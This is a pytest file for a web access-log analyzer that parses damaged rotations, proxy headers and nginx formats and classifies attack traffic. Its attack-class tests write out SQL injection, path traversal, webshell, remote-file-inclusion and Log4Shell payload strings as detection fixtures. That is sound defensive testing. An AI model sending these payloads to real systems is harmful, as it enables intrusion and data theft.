"""F.3 against log conditions and line shapes from the field (issue 19): damaged rotations,
X-Forwarded-For layouts, nginx "main", NUL runs, attack classes, staff use, linear-time parsing."""

import gzip
import random
import time
import zlib
from datetime import UTC, datetime, timedelta

import pytest
from ansible.module_utils.court_web import accesslog
from ansible.module_utils.court_web.accesslog import (
    analyze,
    classify,
    iter_log_files,
    parse_line,
    parse_networks,
    read_records,
)

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
UA = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537"
)


def line(ip, when=NOW, path="/", status=200, method="GET", agent=UA, referer="-", size=100):
    stamp = when.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - - [{stamp}] "{method} {path} HTTP/1.1" {status} {size} "{referer}" "{agent}"\n'


def records(lines, since=NOW - timedelta(hours=24)):
    out = []
    for ln in lines:
        r = parse_line(ln)
        assert r is not None, ln
        out.append((r, r["time"] >= since))
    return out


def codes(res):
    return sorted(f["code"] for f in res["findings"])


# --- rotated .gz that are truncated, corrupt or not gzip --------------------------------------


def _gz(lines):
    return gzip.compress("".join(lines).encode())


def _setup_rotations(tmp_path, damaged: bytes):
    (tmp_path / "access.log").write_text(line("192.0.2.1", NOW - timedelta(minutes=5)))
    (tmp_path / "access.log.1").write_text(line("192.0.2.2", NOW - timedelta(hours=2)))
    (tmp_path / "access.log.2.gz").write_bytes(damaged)
    (tmp_path / "access.log.3.gz").write_bytes(_gz([line("192.0.2.4", NOW - timedelta(hours=6))]))
    return iter_log_files(str(tmp_path), "access.log")


def _read(paths):
    recs, stats = [], None
    for rec, _in in read_records(paths):
        if rec is None:
            stats = _in
        else:
            recs.append(rec)
    return recs, stats


def test_truncated_gzip_keeps_what_was_written_and_names_the_file(tmp_path):
    body = [line(f"198.51.100.{i % 200 + 1}", NOW - timedelta(hours=4, seconds=i)) for i in range(3000)]
    whole = _gz(body)
    paths = _setup_rotations(tmp_path, whole[: len(whole) * 2 // 3])
    recs, stats = _read(paths)
    clients = [r["client"] for r in recs]
    assert clients[0] == "192.0.2.4" and clients[-2:] == ["192.0.2.2", "192.0.2.1"]
    read_from_damaged = len(recs) - 3
    assert 1000 < read_from_damaged < 3000
    assert stats["problems"] == [
        {"file": str(tmp_path / "access.log.2.gz"),
         "problem": "gzip terpotong (file belum selesai dikompresi atau disk penuh)",
         "lines_read": read_from_damaged + (1 if stats["unparsed"] else 0)},
    ]  # fmt: skip
    res = analyze(iter([(r, True) for r in recs] + [(None, stats)]))
    finding = [f for f in res["findings"] if f["code"] == "web_log_unreadable"]
    assert len(finding) == 1 and finding[0]["file"].endswith("access.log.2.gz")
    assert "access.log.2.gz" in finding[0]["message"] and "terpotong" in finding[0]["message"]


def test_gzip_cut_inside_the_header_reads_nothing_and_goes_on(tmp_path):
    paths = _setup_rotations(tmp_path, b"\x1f\x8b\x08")
    recs, stats = _read(paths)
    assert [r["client"] for r in recs] == ["192.0.2.4", "192.0.2.2", "192.0.2.1"]
    assert stats["problems"][0]["lines_read"] == 0


def test_corrupt_gzip_is_a_problem_not_a_crash(tmp_path):
    whole = bytearray(_gz([line("198.51.100.1", NOW - timedelta(hours=4, seconds=i)) for i in range(500)]))
    whole[40:60] = b"\xff" * 20
    recs, stats = _read(_setup_rotations(tmp_path, bytes(whole)))
    assert stats["problems"][0]["problem"].startswith("gzip rusak")
    assert recs[-1]["client"] == "192.0.2.1"


def test_rotation_named_gz_that_is_plain_text_is_read_as_text(tmp_path):
    plain = "".join(line("198.51.100.7", NOW - timedelta(hours=4, seconds=i)) for i in range(10))
    recs, stats = _read(_setup_rotations(tmp_path, plain.encode()))
    assert sum(r["client"] == "198.51.100.7" for r in recs) == 10
    assert stats["problems"] == [
        {
            "file": str(tmp_path / "access.log.2.gz"),
            "problem": "bukan file gzip; dibaca sebagai teks biasa",
            "lines_read": 10,
        }
    ]


def test_concatenated_gzip_members_and_zero_padding(tmp_path):
    data = _gz([line("198.51.100.1")]) + _gz([line("198.51.100.2")]) + b"\x00" * 512
    recs, stats = _read(_setup_rotations(tmp_path, data))
    assert [r["client"] for r in recs][1:3] == ["198.51.100.1", "198.51.100.2"]
    assert stats["problems"] == []


def test_gzip_reader_agrees_with_gzip_module(tmp_path):
    text = "".join(line(f"203.0.113.{i % 250}", NOW, f"/p{i}") for i in range(5000))
    path = tmp_path / "access.log.2.gz"
    path.write_bytes(zlib.compress(b"") and gzip.compress(text.encode(), compresslevel=1))
    problems: list = []
    assert "".join(x + "\n" for x in accesslog.iter_lines(str(path), problems)) == text and problems == []


# --- X-Forwarded-For, nginx main, vhost ---------------------------------------------------------

XFF = {
    # LogFormat "%{X-Forwarded-For}i %l %u %t ..." behind a reverse proxy on the LAN
    "comma": (
        '203.0.113.50, 10.0.0.2 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 10 "-" "ua/1"',
        "203.0.113.50",
        None,
    ),
    "space": (
        '203.0.113.51 10.0.0.2 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 10 "-" "ua/1"',
        "203.0.113.51",
        None,
    ),
    "three_hops": (
        "198.51.100.9, 203.0.113.52, 172.16.0.3 127.0.0.1 - - [20/Nov/2026:10:00:00 +0000] "
        '"GET / HTTP/1.1" 200 10 "-" "ua/1"',
        "203.0.113.52",
        None,
    ),
    "staff_on_lan": (
        '192.168.10.23, 127.0.0.1 - - [20/Nov/2026:10:00:00 +0000] "GET /wp-admin/ HTTP/1.1" '
        '200 10 "-" "ua/1"',
        "192.168.10.23",
        None,
    ),
    "ipv6_hops": (
        '2001:db8:1::5, 2001:db8:ffff::1 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua/1"',
        "2001:db8:ffff::1",
        None,
    ),
    "vhost_and_xff": (
        'court.test:443 203.0.113.53, 10.0.0.2 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" '
        '200 1 "-" "ua/1"',
        "203.0.113.53",
        "court.test:443",
    ),
    "port_in_hop": (
        '203.0.113.54:51234, 10.0.0.2 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua/1"',
        "203.0.113.54",
        None,
    ),
}


@pytest.mark.parametrize("key", sorted(XFF))
def test_forwarded_for_in_front_of_the_client(key):
    text, client, vhost = XFF[key]
    r = parse_line(text)
    assert r["client"] == client and r["vhost"] == vhost
    assert r["agent"] == "ua/1" and r["status"] in (200,) and r["method"] == "GET" and r["user"] is None
    assert r["forwarded_for"] is not None and client in r["forwarded_for"]


def test_spoofed_forwarded_for_is_not_believed():
    # the visitor wrote "X-Forwarded-For: 8.8.8.8" itself; the proxy appended the real address
    r = parse_line(
        '8.8.8.8, 198.51.100.66 10.0.0.2 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"'
    )
    assert r["client"] == "198.51.100.66"


def test_own_public_proxy_is_skipped_when_configured():
    text = '198.51.100.70, 203.0.113.200 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"'
    assert parse_line(text)["client"] == "203.0.113.200"
    assert parse_line(text, parse_networks(["203.0.113.200/32"]))["client"] == "198.51.100.70"


def test_single_client_is_not_mistaken_for_a_vhost():
    r = parse_line(
        'crawl-66-249-66-1.googlebot.com - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"'
    )
    assert r["client"] == "crawl-66-249-66-1.googlebot.com" and r["vhost"] is None


NGINX_MAIN = [
    (
        '203.0.113.9 - - [20/Nov/2026:10:00:00 +0700] "GET /berita HTTP/1.1" 200 612 "https://court.test/" '
        f'"{UA}" "-"',
        "203.0.113.9",
        UA,
        None,
    ),
    (
        '10.0.0.2 - - [20/Nov/2026:10:00:00 +0700] "GET /berita HTTP/1.1" 200 612 "-" '
        f'"{UA}" "198.51.100.20"',
        "198.51.100.20",
        UA,
        "198.51.100.20, 10.0.0.2",
    ),
    (
        '10.0.0.2 - - [20/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 612 "-" '
        '"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)" '
        '"66.249.66.1, 172.16.5.5"',
        "66.249.66.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "66.249.66.1, 172.16.5.5, 10.0.0.2",
    ),
    # an agent with raw quotes, followed by the nginx X-Forwarded-For field
    (
        '10.0.0.2 - - [20/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 5 "-" '
        '"Mozilla/5.0 "x" y" "198.51.100.21"',
        "198.51.100.21",
        'Mozilla/5.0 "x" y',
        "198.51.100.21, 10.0.0.2",
    ),
    # an agent that is only a quoted word is not an X-Forwarded-For field
    (
        '203.0.113.9 - - [20/Nov/2026:10:00:00 +0700] "GET / HTTP/1.1" 200 5 "-" "a" "b"',
        "203.0.113.9",
        'a" "b',
        None,
    ),
]


@pytest.mark.parametrize("text,client,agent,forwarded", NGINX_MAIN)
def test_nginx_main_with_trailing_forwarded_for(text, client, agent, forwarded):
    r = parse_line(text)
    assert (r["client"], r["agent"], r["forwarded_for"]) == (client, agent, forwarded)
    assert r["vhost"] is None and r["status"] in (200,)


# --- NUL runs -------------------------------------------------------------------------------------


def test_nul_run_does_not_glue_onto_the_next_client(tmp_path):
    good = line("192.0.2.10", NOW - timedelta(minutes=2))
    cut = line("192.0.2.11", NOW - timedelta(minutes=3))[:40]
    (tmp_path / "access.log").write_bytes(
        (line("192.0.2.9", NOW - timedelta(minutes=4)) + cut).encode()
        + b"\x00" * 4096
        + good.encode()
        + b"\x00" * 100
        + line("192.0.2.12", NOW - timedelta(minutes=1)).encode()
    )
    recs, stats = _read(iter_log_files(str(tmp_path), "access.log"))
    assert [r["client"] for r in recs] == ["192.0.2.9", "192.0.2.10", "192.0.2.12"]
    assert stats["unparsed"] == 1 and stats["nul_runs"] == {str(tmp_path / "access.log"): 2}
    res = analyze(iter([(r, True) for r in recs] + [(None, stats)]))
    assert [f["code"] for f in res["findings"]] == ["web_log_nul_bytes"]


def test_parse_line_alone_takes_the_text_after_the_nuls():
    assert parse_line("\x00" * 50 + line("192.0.2.13"))["client"] == "192.0.2.13"


# --- attack classes ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path,status,method,expected",
    [
        ("/wp-content/uploads/2026/11/x.php?cmd=id", 200, "GET", ("webshell",)),
        ("/wp-content/uploads/2026/11/cache.php", 200, "POST", ("webshell",)),
        ("/images/up.php?exec=ls%20-la", 200, "GET", ("webshell",)),
        ("/wso.php?c=uname", 200, "GET", ("webshell",)),
        ("/wp-content/uploads/2026/11/x.php?cmd=id", 404, "GET", ()),
        ("/.env", 200, "GET", ("sensitive_exposed",)),
        ("/.htpasswd", 200, "GET", ("sensitive_exposed",)),
        ("/.git/config", 200, "GET", ("sensitive_exposed",)),
        ("/.bash_history", 200, "GET", ("sensitive_exposed",)),
        ("/backup.zip", 200, "GET", ("sensitive_exposed",)),
        ("/public_html.tar.gz", 200, "GET", ("sensitive_exposed",)),
        ("/wp-config.php.bak", 200, "GET", ("sensitive_exposed",)),
        ("/db_court.sql", 200, "GET", ("sensitive_exposed",)),
        ("/.env", 404, "GET", ()),
        ("/index.php?page=..%2f..%2f..%2fetc%2fpasswd", 200, "GET", ("traversal",)),
        ("/%2e%2e/%2e%2e/etc/passwd", 400, "GET", ("traversal",)),
        ("/download.php?f=%252e%252e%252fwp-config.php", 200, "GET", ("traversal",)),
        ("/index.php?file=c:/windows/win.ini", 200, "GET", ("traversal",)),
        ("/cgi-bin/..%5c..%5cwindows%5cwin.ini", 404, "GET", ("traversal",)),
        ("/berita.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL,user()--", 200, "GET", ("sqli",)),
        ("/berita.php?id=1+union+select+1,2,3", 200, "GET", ("sqli",)),
        ("/berita.php?id=1'%20AND%20SLEEP(5)--%20-", 200, "GET", ("sqli",)),
        ("/berita.php?id=1%20AND%201=1", 200, "GET", ("sqli",)),
        ("/berita.php?id=1'%20AND%20'a'='a", 200, "GET", ("sqli",)),
        ("/berita.php?id=(SELECT%20*%20FROM%20(SELECT(SLEEP(5)))a)", 200, "GET", ("sqli",)),
        ("/search?q=1%27%20or%20%271%27=%271", 200, "GET", ("sqli",)),
        ("/index.php?page=http://203.0.113.99/shell.txt?", 200, "GET", ("rfi",)),
        ("/index.php?file=php://filter/convert.base64-encode/resource=index.php", 200, "GET", ("rfi",)),
        ("/index.php?include=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2b", 200, "GET", ("rfi",)),
    ],
)
def test_attack_classes(path, status, method, expected):
    r = parse_line(line("198.51.100.80", path=path, status=status, method=method))
    classes, probe = classify(r)
    assert classes == expected and probe is True


@pytest.mark.parametrize("field", ["agent", "referer", "path"])
def test_log4shell_in_any_field(field):
    payload = "${jndi:ldap://198.51.100.1:1389/a}"
    kw = {"agent": UA, "referer": "-", "path": "/"}
    kw[field] = payload if field != "path" else "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D"
    classes, probe = classify(parse_line(line("198.51.100.81", **kw)))
    assert classes == ("log4shell",) and probe


def test_obfuscated_log4shell():
    agent = "${${lower:j}${::-n}di:${lower:l}dap://198.51.100.1/x}"
    assert classify(parse_line(line("198.51.100.82", agent=agent)))[0] == ("log4shell",)


@pytest.mark.parametrize(
    "path,status",
    [
        ("/", 200),
        ("/berita/sidang-keliling-2026", 200),
        ("/wp-content/themes/court/style.css?ver=6.4.2", 200),
        ("/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", 200),
        ("/wp-includes/css/dist/block-library/style.min.css", 304),
        ("/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.9", 200),
        ("/wp-content/uploads/2026/11/putusan-123.pdf", 200),
        ("/wp-content/uploads/2026/11/foto.jpg", 404),
        ("/wp-admin/", 200),
        ("/wp-admin/post.php?post=123&action=edit", 200),
        ("/wp-admin/admin-ajax.php", 200),
        ("/wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,utils&ver=6.4", 200),
        ("/wp-login.php?redirect_to=https%3A%2F%2Fcourt.test%2Fwp-admin%2F&reauth=1", 200),
        ("/?s=jadwal+sidang+perdata", 200),
        ("/?s=putusan+or+penetapan", 200),
        ("/jadwal-sidang/?tanggal=2026-11-20&ruang=1", 200),
        ("/feed/", 200),
    ],
)
def test_normal_use_is_no_probe(path, status):
    assert classify(parse_line(line("198.51.100.90", path=path, status=status))) == (
        (),
        False,
    ) or path.startswith("/wp-login.php")


def test_missing_plugin_readme_is_a_probe_but_missing_asset_is_not():
    assert classify(
        parse_line(line("198.51.100.91", path="/wp-content/plugins/revslider/readme.txt", status=404))
    )[1]
    assert not classify(parse_line(line("198.51.100.91", path="/wp-content/plugins/x/a.css", status=404)))[1]


def test_attack_findings_and_severity():
    lines = [
        line("198.51.100.80", NOW - timedelta(minutes=5), "/wp-content/uploads/2026/11/x.php?cmd=id"),
        line("198.51.100.81", NOW - timedelta(minutes=4), "/.env", 200),
        line("198.51.100.82", NOW - timedelta(minutes=3), "/berita.php?id=1%20UNION%20ALL%20SELECT%201--"),
        line("198.51.100.83", NOW - timedelta(minutes=2), "/x?f=..%252f..%252fetc%252fpasswd"),
        line("198.51.100.84", NOW - timedelta(minutes=1), "/?page=http://203.0.113.99/s.txt?"),
        line("198.51.100.85", NOW, "/", agent="${jndi:ldap://203.0.113.9/a}"),
    ]
    res = analyze(records(lines))
    sev = {f["code"]: f["severity"] for f in res["findings"]}
    assert sev == {
        "web_webshell_request": "high", "web_sensitive_exposed": "high", "web_sqli": "warning",
        "web_traversal": "warning", "web_rfi": "warning", "web_log4shell": "warning",
    }  # fmt: skip
    webshell = next(f for f in res["findings"] if f["code"] == "web_webshell_request")
    assert webshell["clients"] == ["198.51.100.80"] and "x.php?cmd=id" in webshell["message"]
    sqli = next(f for f in res["findings"] if f["code"] == "web_sqli")
    assert webshell["incident"] is True and "incident" not in sqli
    assert res["attacks"]["sqli"] == 1 and len(res["suspicious"]) == 6


# --- brute force, staff, allow-list ---------------------------------------------------------------


@pytest.mark.parametrize("url", ["/wp-login.php", "//wp-login.php", "/blog/wp-login.php", "/xmlrpc.php"])
def test_distributed_brute_force_on_one_login_url(url):
    lines = [
        line(f"198.51.{i // 250}.{i % 250 + 1}", NOW - timedelta(seconds=300 - i), url, 200, "POST")
        for i in range(120)
    ]
    res = analyze(records(lines))
    assert codes(res) == ["web_bruteforce_distributed"]
    entry = next(s for s in res["suspicious"] if s["kind"] == "bruteforce_distributed")
    assert entry["attempts"] == 120 and entry["clients_in_window"] == 120
    assert entry["url"] == url.replace("//", "/")


def test_slow_spread_logins_below_window_are_no_finding():
    lines = [
        line(f"198.51.100.{i + 1}", NOW - timedelta(minutes=20 * i), "/wp-login.php", 302, "POST")
        for i in range(70)
    ]
    assert codes(analyze(records(lines, NOW - timedelta(days=2)))) == []


def _staff_day(ip):
    out = []
    t = NOW - timedelta(hours=8)
    out.append(line(ip, t, "/wp-login.php", 200))
    out.append(line(ip, t + timedelta(seconds=20), "/wp-login.php", 302, "POST"))
    for i in range(8 * 60 * 2):  # heartbeat every 30 s for eight hours, pages and assets between
        when = t + timedelta(seconds=30 * i + 30)
        out.append(
            line(ip, when, "/wp-admin/admin-ajax.php", 200, "POST", referer="https://court.test/wp-admin/")
        )
        if i % 10 == 0:
            out.append(line(ip, when, f"/wp-admin/post.php?post={i}&action=edit", 200))
            out.append(line(ip, when, "/wp-includes/js/dist/vendor/react.min.js?ver=18.2.0", 200))
            out.append(line(ip, when, "/wp-content/plugins/classic-editor/js/block-editor-plugin.js", 200))
            out.append(line(ip, when, "/wp-admin/post.php", 302, "POST"))
    return out


def test_staff_editing_for_hours_is_not_suspicious():
    res = analyze(records(_staff_day("198.51.100.44")))
    assert res["findings"] == [] and res["suspicious"] == []


def test_visitors_loading_pages_with_assets_are_not_probes():
    lines = []
    for v in range(200):
        when = NOW - timedelta(minutes=v)
        ip = f"203.0.113.{v % 250}"
        lines.append(line(ip, when, "/berita/sidang-keliling"))
        lines.extend(line(ip, when, a) for a in (
            "/wp-includes/css/dist/block-library/style.min.css?ver=6.4.2",
            "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
            "/wp-content/themes/court/assets/logo.png",
            "/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.18",
            "/wp-content/uploads/2026/11/banner.webp",
        ))  # fmt: skip
    res = analyze(records(lines))
    assert res["findings"] == [] and res["suspicious"] == []


def test_own_networks_are_never_suspicious():
    lines = [
        line("192.168.10.23", NOW - timedelta(seconds=i), "/.env", 404, agent="sqlmap/1.7") for i in range(50)
    ]
    lines += [
        line("192.168.10.23", NOW - timedelta(seconds=i), "/wp-login.php", 200, "POST") for i in range(50)
    ]
    assert "web_scanner" in codes(analyze(records(lines)))
    res = analyze(records(lines), {"trusted_networks": ["192.168.10.0/24", "203.0.113.16/29"]})
    assert res["findings"] == [] and res["suspicious"] == [] and res["trusted_requests"] == 100
    assert res["requests"] == 100


def test_bad_network_in_allow_list_is_named():
    with pytest.raises(ValueError, match="'192.168.10.0/33'"):
        analyze(iter(()), {"trusted_networks": ["192.168.10.0/33"]})


# --- robustness: garbage never raises, parsing is linear --------------------------------------


def _garbage(rnd, n):
    alphabet = ' "[]\\-/:.,%$\x00{}0123456789abcdefGET HTTP/1.1\t\x16\x03\xff\u00e9'
    return "".join(rnd.choice(alphabet) for _ in range(n))


def _mutations(rnd, base):
    s = list(base)
    for _ in range(rnd.randint(1, 8)):
        op = rnd.randrange(3)
        pos = rnd.randrange(len(s) + 1)
        if op == 0 and s:
            del s[min(pos, len(s) - 1)]
        elif op == 1:
            s.insert(pos, rnd.choice(' "[]\\-\x00%'))
        else:
            s[pos:pos] = list(_garbage(rnd, rnd.randint(1, 30)))
    return "".join(s)


def test_random_garbage_and_mutated_lines_never_raise():
    rnd = random.Random(19)
    bases = (
        [line("198.51.100.1", path="/a?b=c%20d")]
        + [t for t, *_ in NGINX_MAIN]
        + [t for t, *_ in XFF.values()]
    )
    samples = [_garbage(rnd, rnd.randint(0, 400)) for _ in range(1500)]
    samples += [_mutations(rnd, rnd.choice(bases)) for _ in range(3000)]
    parsed = 0
    for s in samples:
        r = parse_line(s)
        if r is not None:
            parsed += 1
            assert isinstance(r["client"], str) and isinstance(r["status"], int)
            classify(r)
    assert parsed > 500  # the mutations keep many lines parseable, so classify ran on odd records
    res = analyze(iter([(r, True) for r in map(parse_line, samples) if r is not None]))
    assert res["requests"] == parsed


def _cost(text, repeat=7):
    best = float("inf")
    for _ in range(repeat):
        t = time.perf_counter()
        r = parse_line(text)
        if r is not None:
            classify(r)
        best = min(best, time.perf_counter() - t)
    return best


LONG_SHAPES = {
    "unterminated_request": lambda n: '198.51.100.1 - - [20/Nov/2026:10:00:00 +0000] "GET /' + "A" * n,
    "many_brackets": lambda n: "[" * n,
    "bracket_dates": lambda n: "1.2.3.4 - - " + "[20/Nov/2026:10:00:00 +0000] " * (n // 29),
    "quotes_and_escapes": lambda n: (
        '1.2.3.4 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "' + '\\"' * (n // 2)
    ),
    "long_agent": lambda n: line("1.2.3.4", agent="Mozilla/5.0 " + "abcbot" * (n // 6)),
    "long_path": lambda n: line("1.2.3.4", path="/x?" + "a%20union%20" * (n // 12)),
    "spaces": lambda n: "1.2.3.4" + " " * n + "- -",
    "raw_quotes": lambda n: line("1.2.3.4", agent='x" ' * (n // 3)),
    "jndi_junk": lambda n: line("1.2.3.4", agent="${" * (n // 2)),
}


@pytest.mark.parametrize("shape", sorted(LONG_SHAPES))
def test_parsing_is_linear_in_the_line_length(shape):
    make = LONG_SHAPES[shape]
    small, big = make(8_000), make(64_000)
    ratio = _cost(big) / max(_cost(small), 1e-7)
    # 8 times the length: linear costs about 8x; the quadratic parser took 64x and more
    assert ratio < 24, f"{shape}: 8x longer line cost {ratio:.1f}x"


@pytest.mark.parametrize(
    "path,key",
    [
        ("/wp-login.php", "/wp-login.php"),
        ("//wp-login.php?action=login", "/wp-login.php"),
        ("/blog/wp-login.php", "/blog/wp-login.php"),
        ("/xmlrpc.php", "/xmlrpc.php"),
        ("/administrator/index.php", "/administrator/index.php"),
        ("/index.php?option=com_users&task=user.login", "/index.php?option=com_users"),
        ("/wp-admin/admin.php", None),
        ("/wp-admin/admin-ajax.php", None),
        ("/berita/login-sipp", None),
    ],
)
def test_login_urls(path, key):
    assert accesslog.login_key(parse_line(line("198.51.100.1", path=path, method="POST"))) == key


def test_client_cache_follows_the_proxy_setting():
    text = '198.51.100.71, 203.0.113.201 - - [20/Nov/2026:10:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "x"'
    for _ in range(2):
        assert parse_line(text)["client"] == "203.0.113.201"
        assert parse_line(text, parse_networks(["203.0.113.201"]))["client"] == "198.51.100.71"
